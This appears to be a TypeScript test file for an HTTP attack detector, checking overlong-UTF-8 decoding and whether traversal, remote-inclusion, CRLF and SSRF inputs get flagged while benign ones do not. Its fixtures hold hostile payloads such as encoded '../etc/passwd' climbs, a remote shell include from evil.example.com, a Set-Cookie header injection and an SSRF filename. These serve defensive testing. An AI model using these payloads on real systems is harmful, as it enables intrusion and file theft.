/**
 * Decoding and body reading, eighth round (branch i18-decode8, docs/detection.md "Decoding and body
 * reading leftovers"): an overlong lead byte before an escaped ASCII byte, read as a decoder that
 * never checks continuation bits reads it (`%c0%2e` is `.`); remote file inclusion written into
 * the path as `name=URL?`; a line break between lines of prose in a path segment; a lone `...`
 * segment in a path; a multipart body sent without the header that declares its boundary, read by
 * its own first line. Every attack example fails on main 60f8251 but the two crlf probes and the
 * untyped form's field (kept: the new readings must leave them found); the prose in a path, the
 * ellipsis segment and the untyped upload were flagged there. Where: `q` the text after
 * `/search?q=` as written, `path` the whole target as written (helpers.ts `written`).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { percentDecode } from '../../../node/analysis/attacks/decode/percent';
import type { AttackClass } from '../../../node/records/types';
import { BROWSER, HOST, RELAXED, tx, written } from './helpers';

const detector = new AttackDetector(RELAXED);

function classesWritten(where: 'q' | 'path', text: string): AttackClass[] {
  return [...new Set(detector.detect(tx(written(where, text)))?.hits.map((h) => h.class) ?? [])];
}

/** The classes of a POST to /post with `body` and no Content-Type. */
function classesOfUntypedBody(body: string): AttackClass[] {
  const spec = { method: 'POST', target: '/post', headers: [HOST, BROWSER], body };
  return [...new Set(detector.detect(tx(spec))?.hits.map((h) => h.class) ?? [])];
}

const DECODED: Array<[string, string, string]> = [
  ['an overlong lead before an escaped dot is a dot', '%c0%2e%c0%2e/', '../'],
  ['the same lead before an escaped slash is a slash', '..%c0%2f..%c0%2f', '../../'],
  ['0xC1 before the control 0x1C is a backslash (IIS)', '..%c1%1c..%c1%1c', '..\\..\\'],
  ['valid UTF-8 is read as it is', 'caf%C3%A9%20cr%C3%A8me', 'café crème'],
  ['the two-byte overlong form keeps its reading', '%c0%ae%c0%ae/', '../'],
  ['0xC1 before an escaped blank stays Latin-1 (no backtick)', 'VOIL%C1%20tout', 'VOILÁ tout'],
  ['0xC0 before a letter stays Latin-1', 'A%C0%41', 'AÀA'],
];

for (const [name, sent, expected] of DECODED) {
  test(`percentDecode: ${name}`, () => assert.equal(percentDecode(sent), expected));
}

const ATTACKS: Array<[string, AttackClass, 'q' | 'path', string]> = [
  ['overlong leads before escaped dots, in the query', 'ptrav', 'q', '%c0%2e%c0%2e/'],
  ['the same climbing to a file, in the query', 'ptrav', 'q', '%c0%2e%c0%2e/%c0%2e%c0%2e/etc'],
  ['the same in a path', 'ptrav', 'path', '/files/%c0%2e%c0%2e/%c0%2e%c0%2e/'],
  ['backslashes written as 0xC1 0x1C (IIS)', 'ptrav', 'q', '..%c1%1c..%c1%1cwinnt'],
  ['a remote file as a path parameter, its query cut short', 'ptrav', 'path', '/sid=http://evil.example.com/shell.txt?'],
  ['the same with an empty name', 'ptrav', 'path', '/=http://evil.example.com/shell.txt?'],
  [
    'an include root named in the path, two question marks',
    'ptrav',
    'path',
    '/sample/parser_path=http://evil.example.com/shell.txt??',
  ],
  ['two segments of three dots climb', 'ptrav', 'path', '/.../.../'],
  ['a segment of three dots before a system file', 'ptrav', 'path', '/a/.../etc/passwd'],
  ['the URL as the second pair of a path parameter', 'ptrav', 'path', '/sid=XXXX&shopid=http://evil.example.com/shell.txt?'],
  ['a probe: a break between two single words, in a path', 'crlf', 'path', '/foo%0abar'],
  ['a header line after prose, in a path', 'crlf', 'path', '/items/Hello%20world%0D%0ASet-Cookie%3A%20a%3D1/view'],
];

for (const [name, cls, where, text] of ATTACKS) {
  test(`${cls}: ${name}`, () => {
    const got = classesWritten(where, text);
    assert.ok(got.includes(cls), `${where} ${JSON.stringify(text)} -> ${got.join(',') || 'nothing'}`);
  });
}

const BENIGN: Array<[string, 'q' | 'path', string]> = [
  ['French text in UTF-8, in the query', 'q', 'caf%C3%A9%20cr%C3%A8me%20br%C3%BBl%C3%A9e'],
  ['Latin-1 capitals before escaped punctuation', 'q', 'VOIL%C0%2C%20%C1%20bient%F4t'],
  ['a sentence with an ellipsis, in a path segment', 'path', '/notes/Well...%20maybe%20later/view'],
  ['an ellipsis alone as a path segment', 'path', '/items/.../view'],
  ['a URL as a path parameter, no cut-short query', 'path', '/share/url=https://example.com/a.pdf'],
  ["a web archive's page with an empty query", 'path', '/web/2020/https://example.com/page.html?'],
  ['a URL path parameter of a page, empty query', 'path', '/share/url=https://example.com/page?'],
  ['a signature in a path segment', 'path', '/items/Best%20regards%2C%0AAlice%20prompt%20delivery/view'],
  ['two lines of prose in a path segment', 'path', '/notes/Thanks%20a%20lot%0D%0ASee%20you%20soon/edit'],
];

for (const [name, where, text] of BENIGN) {
  test(`benign: ${name}`, () => assert.deepEqual(classesWritten(where, text), [], `${where} ${JSON.stringify(text)}`));
}

test('multipart without a Content-Type: a filename holding a fetch target is read as a filename', () => {
  const body =
    '----------397236876\nContent-Disposition: form-data; name="file"; filename="http://2852039166/?.txt"\n' +
    'Content-Type: text/plain\n\nMy epic SSRF attempt\n\n----------397236876--\n';
  assert.ok(classesOfUntypedBody(body).includes('ssrf'));
});

test('multipart without a Content-Type: a field is read at its own point', () => {
  const body = '--XyZ\r\nContent-Disposition: form-data; name="path"\r\n\r\n../../../../etc/passwd\r\n--XyZ--\r\n';
  assert.ok(classesOfUntypedBody(body).includes('ptrav'));
});

test('multipart without a Content-Type: an ordinary upload is quiet (its part headers are no mail)', () => {
  const body =
    '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n' +
    'hello\r\n--XyZ--\r\n';
  assert.deepEqual(classesOfUntypedBody(body), []);
});

const PLAIN_BODIES: Array<[string, string]> = [
  ['a mail signature', '-- \nAlice\nSent from my phone'],
  ['YAML front matter', '---\ntitle: Hello\n---\nSome text'],
  ['an SQL comment line', '-- a comment\nSELECT name FROM users'],
  ['a delimiter-like line without form-data parts', '--XyZ\nhello world\n--XyZ--\n'],
];

for (const [name, body] of PLAIN_BODIES) {
  test(`benign body starting with --: ${name}`, () => assert.deepEqual(classesOfUntypedBody(body), []));
}
